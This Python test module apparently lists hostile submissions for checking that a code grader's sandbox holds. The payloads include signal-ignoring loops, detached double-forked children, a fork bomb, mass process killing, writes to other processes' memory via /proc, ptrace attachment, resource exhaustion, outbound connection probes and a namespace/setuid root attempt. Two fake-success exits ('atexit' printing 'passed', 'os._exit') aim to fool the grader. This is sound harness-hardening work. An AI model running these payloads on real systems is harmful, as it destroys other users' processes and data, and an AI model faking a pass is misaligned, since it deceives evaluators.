"""Time, memory, processes: costs for others, and whoever is in the way."""

from hostile_bank.attack import ATTACKED, RIGHT, WRONG, attack

_DEAF = "import signal\nfor s in range(1, 65):\n    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n"
_DETACHED = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        DEAF
        time.sleep(1000)
    os._exit(0)
""".replace("DEAF", _DEAF.replace("\n", "\n        "))


def _does(name, tries, code, status="failed broken stopped", **more):
    return attack(name, tries, status, f"{code}\n{WRONG}", **more)


ATTACKS = (
    _does("endless", "A loop that hears no signal.", _DEAF + "while True: pass", "stopped"),
    attack("endless when it is called", "A loop that catches everything.", "stopped",
           "import time\ndef softmax(scores):\n    while True:\n        try: time.sleep(1000)\n"
           "        except BaseException: pass\n"),
    _does("sleeps", "Sleeping costs no processor time.", "import time\ntime.sleep(1000)", "stopped"),
    _does("stops itself", "A process that is stopped answers nobody.", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
          "stopped failed"),
    attack("fork bomb in a helper cell", "As many processes as there are.", "stopped failed", WRONG,
           "import os, time\nwhile True:\n    try: os.fork()\n    except OSError: time.sleep(0.01)\n", other="stopped passed"),
    _does("threads without end", "As many threads as there are.",
          "import threading, time\nfor _ in range(10_000):\n    try: threading.Thread(target=time.sleep, args=(1000,),"
          " daemon=True).start()\n    except RuntimeError: break"),
    _does("a detached child holds the pipe", "Whoever waits for the end of the pipe waits for ever.", _DETACHED),
    _does("a detached child, then the end", "The same, and the worker is gone.", _DETACHED + "os._exit(0)", "stopped"),
    _does("a child that answers", "A child goes on in the worker's place.",
          "import os\nif os.fork():\n    os._exit(0)", "stopped failed"),
    _does("kills all that it can", "Signals to everybody.",
          "import os, signal\nfor pid in (-1, os.getppid(), 1, -os.getpgrp()):\n    for s in (signal.SIGTERM, signal.SIGKILL):\n"
          "        try: os.kill(pid, s)\n        except (OSError, PermissionError): pass", walled=True),
    _does("the parent's memory", "Writes into the server through /proc.",
          "import os\nfor pid in [os.getppid(), 1, *(int(p) for p in os.listdir('/proc') if p.isdigit())]:\n"
          "    if pid == os.getpid(): continue\n    try:\n        for line in open(f'/proc/{pid}/maps'):\n"
          "            if ' rw' in line:\n                memory = os.open(f'/proc/{pid}/mem', os.O_RDWR)\n"
          "                os.pwrite(memory, b'x' * 4096, int(line.split('-')[0], 16))\n    except OSError: pass"),
    _does("ptrace", "Attaches to all processes it can name.",
          "import ctypes, os\nlibc = ctypes.CDLL(None)\nfor pid in range(1, 400):\n    if pid != os.getpid():"
          " libc.ptrace(16, pid, 0, 0)\nlibc.ptrace(16, os.getppid(), 0, 0)"),
    _does("memory", "All there is.", "hoard = []\nwhile True: hoard.append(bytearray(2**22))", "broken stopped"),
    _does("memory by mmap", "Memory that belongs to no object.",
          "import mmap\nhoard = []\nwhile True:\n    m = mmap.mmap(-1, 2**24, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)\n"
          "    m[::4096] = b'x' * len(m[::4096])\n    hoard.append(m)", "broken stopped"),
    attack("memory when it is called", "A tensor for every pair of everything.", "failed stopped",
           "import torch\ndef softmax(scores): return torch.ones(2**36)\n"),
    _does("the disk", "A file without end.", "with open('big', 'wb') as file:\n    while True: file.write(bytes(2**20))",
          "broken stopped"),
    _does("open files", "As many as there are.", "hoard = []\nwhile True: hoard.append(open('/dev/null'))", "broken"),
    _does("recursion", "The stack of C, behind Python's own limit.",
          "import sys\nsys.setrecursionlimit(10**9)\nclass C:\n    def __getattr__(self, name): return getattr(self, name)\n"
          "f = lambda: repr(f())\nx = []\nfor _ in range(10**6): x = [x]\nstr(x)", "broken stopped"),
    _does("a crash", "A null pointer.", "import ctypes\nctypes.string_at(0)", "stopped"),
    _does("prints without end", "Fills the grader's memory with words.", "while True: print('x' * 10_000)", "stopped"),
    attack("exit when it is called", "An exit that looks like success.", "failed",
           "import atexit\natexit.register(print, 'passed')\ndef softmax(scores):\n    import sys\n    sys.exit(0)\n"),
    attack("gone when it is called", "The end without a word.", "stopped", "import os\ndef softmax(scores): os._exit(0)\n"),
    attack("an answer that leaves a child", "Right, and a process stays behind.", "passed", _DETACHED + RIGHT[ATTACKED]),
    _does("the network", "Sends what it knows to somebody, asks somebody for the answer.",
          "import socket\nfor place in (('192.0.2.1', 80), ('127.0.0.1', 22), ('1.1.1.1', 53)):\n"
          "    try: socket.create_connection(place, 0.3); raise SystemExit('connected')\n    except OSError: pass", "failed"),
    _does("rights", "Namespaces in which it is root again.",
          "import ctypes\nlibc = ctypes.CDLL(None)\ngot = [libc.unshare(0x10000000) == 0, libc.setuid(0) == 0,"
          " libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0, libc.chroot(b'/tmp') == 0]\nprint('LOOT' * any(got))"),
)
